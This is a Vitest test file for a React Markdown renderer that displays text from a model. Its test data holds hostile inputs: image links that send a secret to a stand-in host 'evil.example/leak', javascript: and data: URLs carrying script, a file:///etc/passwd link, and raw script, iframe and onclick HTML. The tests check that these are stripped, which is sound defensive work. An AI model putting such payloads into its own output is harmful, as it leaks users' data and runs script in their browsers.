// @vitest-environment happy-dom
import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { beforeAll, describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

beforeAll(() => {
  Object.assign(globalThis, { IS_REACT_ACT_ENVIRONMENT: true });
});

function draw(text: string): HTMLElement {
  const host = document.createElement('div');
  act(() => createRoot(host).render(<Markdown text={text} />));
  return host;
}

describe('Markdown from a model', () => {
  it.each(['![cat](https://evil.example/leak?q=secret)', '![cat][1]\n\n[1]: https://evil.example/leak', '[![cat](https://evil.example/leak)](https://ok.example)'])(
    'loads no picture: %s',
    (text) => {
      const host = draw(text);
      expect(host.querySelector('img, picture, source, video, svg image')).toBeNull();
      expect(host.textContent).toContain('https://evil.example/leak');
    },
  );

  it.each([
    '[go](javascript:alert(1))',
    '[go](JaVaScRiPt:alert(1))',
    '[go](data:text/html,<script>1</script>)',
    '[go](file:///etc/passwd)',
    '[go](app://deskwright/index.html)',
    '[go](http://plain.example)',
    '[go](//host.example/x)',
    '[go](/settings)',
    '[go](https://user:pass@host.example)',
    '<javascript:alert(1)>',
  ])('makes no link of %s', (text) => {
    expect(draw(text).querySelector('a')).toBeNull();
  });

  it('makes an https link that names where it goes', () => {
    const link = draw('[the site](https://ok.example/a)').querySelector('a');
    expect(link?.getAttribute('href')).toBe('https://ok.example/a');
    expect(link?.title).toBe('https://ok.example/a');
    expect(link?.rel).toContain('noopener');
  });

  it('drops raw HTML', () => {
    const host = draw('before <script>alert(1)</script><iframe src="https://evil.example"></iframe><style>*{}</style><b onclick="x()">bold</b> after');
    expect(host.querySelector('script, iframe, style, b, [onclick]')).toBeNull();
    expect(host.textContent).toContain('before');
  });

  it('draws tables, task lists and code', () => {
    const host = draw('| a | b |\n| - | - |\n| 1 | 2 |\n\n- [x] done\n\n```\ncode\n```');
    expect(host.querySelectorAll('td')).toHaveLength(2);
    expect(host.querySelector<HTMLInputElement>('input[type=checkbox]')?.checked).toBe(true);
    expect(host.querySelector('pre code')?.textContent).toBe('code\n');
  });
});
